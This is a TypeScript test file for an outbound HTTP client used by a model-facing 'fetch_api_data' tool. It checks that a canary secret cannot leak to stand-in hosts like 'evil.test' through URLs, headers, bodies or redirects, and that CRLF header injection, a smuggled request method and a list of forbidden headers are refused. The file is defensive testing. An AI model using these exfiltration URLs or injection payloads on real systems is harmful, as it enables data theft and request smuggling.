import { array, assert, asyncProperty, constantFrom, oneof, string } from 'fast-check';
import { createServer, request as plainRequest, type IncomingHttpHeaders, type Server } from 'node:http';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { localCaller } from '../../src/core/caller.ts';
import { ToolRegistry } from '../../src/core/registry.ts';
import { createOutboundClient, type OutboundClient } from '../../src/net/create-outbound-client.ts';
import { fetchApiDataTool } from '../../src/tools/fetch-api-data.ts';
import type { FetchApiDataOptions } from '../../src/tools/fetch-api-data-options.ts';
import { propertyRuns } from '../property-runs.ts';
import { createWorld, naiveGet, outcomeOf, type World } from './outbound-world.ts';

const canary = 'canary-7f3a91';
let world: World;

beforeAll(async () => {
  world = await createWorld((request, response) => {
    const to = new URL(request.url!, 'https://api.example.com').searchParams.get('to');
    if (request.url === '/leak') response.writeHead(302, { location: `https://${canary}.evil.test/` }).end();
    else if (to === null) response.end('hello');
    else response.writeHead(307, { location: to }).end();
  });
});

afterAll(() => world.close());

let before = 0;

beforeEach(() => {
  world.asked.length = 0;
  before = world.publicHost.seen.length;
});

function registryOf(options: Partial<FetchApiDataOptions> = {}): ToolRegistry {
  const { ports, ...network } = world.network;
  const all = { hosts: ['api.example.com'], ports: [...ports], ...options };
  return new ToolRegistry().registerTool(fetchApiDataTool(all, { network }));
}

const hasLeft = (): boolean =>
  JSON.stringify([world.publicHost.seen.slice(before), world.asked]).includes(canary);

describe('D4 a secret value', () => {
  test.each([
    ['the host name', { url: `https://${canary}.evil.test:PORT/` }],
    ['a name that looks like a listed one', { url: `https://${canary}.api-example.com:PORT/` }],
    ['the path', { url: `https://evil.test:PORT/${canary}` }],
    ['the query', { url: `https://evil.test:PORT/?q=${canary}` }],
    ['the fragment', { url: `https://api.example.com:PORT/#${canary}` }],
    ['the user part', { url: `https://${canary}@api.example.com:PORT/` }],
    ['a header', { url: 'https://evil.test:PORT/', headers: { 'X-Data': canary } }],
    ['a body', { url: 'https://evil.test:PORT/', method: 'POST', body: canary }],
    ['a redirect', { url: 'https://api.example.com:PORT/leak' }],
  ])('D4 in %s reaches no host outside of the list, and no resolver', async (_where, args) => {
    const registry = registryOf({ methods: ['GET', 'POST'] });
    await registry.execute('fetch_api_data', { ...args, url: args.url.replace('PORT', String(world.port)) });
    expect(hasLeft()).toBe(false);
    expect(world.asked.filter((name) => name !== 'api.example.com')).toEqual([]);
  });

  test('D4 control: a client without a list asks the resolver for the name and sends the rest', async () => {
    const { resolve } = world.network;
    await naiveGet(`https://${canary}.evil.test:${world.port}/${canary}`, { resolve });
    expect(world.asked).toEqual([`${canary}.evil.test`]);
    expect(hasLeft()).toBe(true);
  });

  test('D4 a host that is listed for one tenant is refused for another', async () => {
    const registry = registryOf({
      hosts: ['api.example.com'],
      hostsByTenant: { acme: ['other.example.org'], none: [] },
    });
    const ask = async (tenant: string, host: string): Promise<unknown> =>
      registry.execute(
        'fetch_api_data',
        { url: `https://${host}:${world.port}/` },
        { caller: { ...localCaller, tenant: { id: tenant, name: tenant, data: {} } } },
      );
    const refused = { error: 'Request error', message: expect.stringContaining('not among those') };
    expect(await ask('acme', 'other.example.org')).toMatchObject({ status_code: 200 });
    expect(await ask('acme', 'api.example.com')).toEqual(refused);
    expect(await ask('beta', 'api.example.com')).toMatchObject({ status_code: 200 });
    expect(await ask('beta', 'other.example.org')).toEqual(refused);
    expect(await ask('none', 'api.example.com')).toEqual(refused);
    expect(await ask('__proto__', 'other.example.org')).toEqual(refused);
    expect(registry.list()[0]!.description).not.toContain('example');
  });

  test('D4 a request cannot have a body unless POST is listed', async () => {
    const registry = registryOf();
    const url = `https://api.example.com:${world.port}/`;
    for (const args of [{ body: canary }, { method: 'POST' }, { method: 'post', body: canary }]) {
      await expect(registry.execute('fetch_api_data', { url, ...args })).rejects.toMatchObject({
        code: 'invalid_arguments',
      });
    }
    expect(Object.keys(registry.list()[0]!.inputSchema.properties!)).not.toContain('body');
    expect(hasLeft()).toBe(false);
  });

  test('D4 fixed headers are sent to their own origin only, and the model does not see them', async () => {
    const registry = registryOf({
      hosts: ['api.example.com', 'other.example.org'],
      headers: { Authorization: `Bearer ${canary}` },
    });
    const to = `https://other.example.org:${world.port}/end`;
    const url = `https://api.example.com:${world.port}/?to=${encodeURIComponent(to)}`;
    const result = await registry.execute('fetch_api_data', { url });
    const [first, second] = world.publicHost.seen.slice(-2);
    expect(first!.headers.authorization).toBe(`Bearer ${canary}`);
    expect(JSON.stringify(second)).not.toContain(canary);
    expect(JSON.stringify([result, registry.list()])).not.toContain(canary);
  });
});

describe('D3 the method and headers of a request', () => {
  let echo: Server;
  let origin: string;
  const heard: { url: string; headers: IncomingHttpHeaders }[] = [];

  beforeAll(async () => {
    echo = createServer(({ url, headers }, response) => {
      heard.push({ url: url!, headers });
      response.end();
    });
    await new Promise<void>((done) => void echo.listen(0, '127.0.0.1', done));
    origin = `http://127.0.0.1:${(echo.address() as { port: number }).port}`;
  });

  afterAll(() => new Promise((done) => echo.close(done)));

  beforeEach(() => {
    heard.length = 0;
  });

  const trusting = (): OutboundClient => createOutboundClient({ hosts: [], trustedOrigins: [origin] });

  test.each<readonly [name: string, value: string]>([
    ['X-A', '1\r\nX-Evil: 1'],
    ['X-A', '1\nX-Evil: 1'],
    ['X-A', '1\rX-Evil: 1'],
    ['X-A', '1\0'],
    ['X-A', '1\u{10d}\u{10a}X-Evil: 1'],
    ['X-A\r\nX-Evil', '1'],
    ['X-A: 1\r\nX-Evil', '1'],
    ['X A', '1'],
    ['', '1'],
    ...[
      'Host',
      'Content-Length',
      'Transfer-Encoding',
      'Connection',
      'Keep-Alive',
      'TE',
      'Trailer',
      'Upgrade',
      'Expect',
      'HTTP2-Settings',
      'Accept-Encoding',
      'Content-Encoding',
      'Cookie',
      'Proxy-Authorization',
      'Proxy-Connection',
      'Forwarded',
      'Via',
      'X-Forwarded-For',
      'X-Forwarded-Host',
      'X-Real-IP',
      'X-HTTP-Method-Override',
      'X-HTTP-Method',
      'X-Method-Override',
      'Sec-Fetch-Site',
    ].map((name) => [name, '1'] as const),
  ])('D3 the header %j: %j is refused', async (name, value) => {
    for (const spelling of [name, name.toLowerCase(), name.toUpperCase()]) {
      await expect(
        trusting().request(`${origin}/`, { headers: { [spelling]: value } }),
      ).rejects.toMatchObject({
        reason: 'refused_request',
      });
    }
    expect(heard).toEqual([]);
  });

  test('D3 repeated headers, oversized headers, unusual methods and a body with GET are refused', async () => {
    const client = trusting();
    for (const request of [
      { headers: { 'X-A': '1', 'x-a': '2' } },
      { headers: { 'X-A': 'x'.repeat(20_000) } },
      { method: 'CONNECT' },
      { method: 'TRACE' },
      { method: 'GET /evil HTTP/1.1\r\n' },
      { method: 'GET', body: 'x' },
    ]) {
      await expect(client.request(`${origin}/`, request)).rejects.toMatchObject({
        reason: 'refused_request',
      });
    }
    expect(heard).toEqual([]);
  });

  test('D3 a host gets exactly the accepted headers, in exactly one request', async () => {
    const client = trusting();
    const odd = constantFrom('\r', '\n', '\0', ':', ' ', '\t', 'é', '\u{10a}', 'X-Evil: 1', 'a', '-');
    const name = oneof(
      string({ maxLength: 8 }),
      array(odd, { maxLength: 4 }).map((all) => all.join('')),
    );
    const value = oneof(
      string({ maxLength: 12, unit: 'binary' }),
      array(odd, { maxLength: 6 }).map((all) => all.join('')),
    );
    const own = new Set(['host', 'accept-encoding', 'connection']);
    await assert(
      asyncProperty(name, value, async (key, text) => {
        heard.length = 0;
        const headers = { [`x-${key}`]: text };
        const { reason } = await outcomeOf(client.request(`${origin}/`, { headers }));
        if (reason !== 'reached') {
          expect([reason, heard]).toEqual(['refused_request', []]);
          return;
        }
        expect(heard).toHaveLength(1);
        const others = Object.entries(heard[0]!.headers).filter(([one]) => !own.has(one));
        expect(others).toEqual([[`x-${key}`.toLowerCase(), text.replaceAll(/^[ \t]+|[ \t]+$/g, '')]]);
      }),
      { numRuns: propertyRuns() },
    );
  });

  test('control: a client that writes headers unchecked sends a second request', async () => {
    await new Promise<void>((done, fail) => {
      const sent = plainRequest(origin, { agent: false }, (response) => response.resume().on('end', done));
      sent.on('error', fail);
      sent.on('socket', (socket) => {
        socket.once('connect', () =>
          socket.write('GET / HTTP/1.1\r\nHost: x\r\nX-A: 1\r\nX-Evil: 1\r\n\r\n'),
        );
      });
    });
    expect(heard[0]!.headers).toMatchObject({ 'x-a': '1', 'x-evil': '1' });
  });
});
